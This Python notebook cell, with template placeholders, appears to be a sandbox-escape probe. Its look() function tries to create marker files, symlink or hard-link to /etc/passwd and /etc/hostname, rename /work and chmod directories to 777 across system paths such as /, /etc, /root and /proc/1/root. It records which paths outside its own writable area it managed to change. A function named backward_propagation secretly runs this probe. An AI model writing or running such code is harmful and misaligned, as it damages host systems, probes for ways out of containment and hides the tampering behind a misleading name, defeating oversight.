# %%
import os
own = tuple(os.path.realpath(place) for place in ("/tmp", "/work", "/dev/shm", "/run/kernel") if os.access(place, os.W_OK))
def look():
    done = []
    for place in ["/", "/opt", "/opt/worker", "/opt/worker/worker", "/opt/site/0", "/usr", "/usr/bin", "/etc", "/home", "/dev", "/proc", "/sys", "/var", "/run",
                  "/var/tmp", "/root", "/opt/python", "__ROOT__", "/proc/1/root/tmp", "/proc/1/cwd"] + __SECRET_PLACES__:
        path = f"{place}/hostile_marker_file"
        for attempt in (lambda: open(path, "w").close(), lambda: os.mkdir(path), lambda: os.symlink("/etc/passwd", path), lambda: os.mkfifo(path),
                        lambda: os.link("/etc/hostname", path), lambda: os.rename("/work", path), lambda: os.chmod(place, 0o777)):
            try:
                attempt()
                if not os.path.realpath(place).startswith(own):
                    done.append(place)
            except OSError:
                pass
    return sorted(set(done))
def backward_propagation(x, theta):
    return look() or "refused"
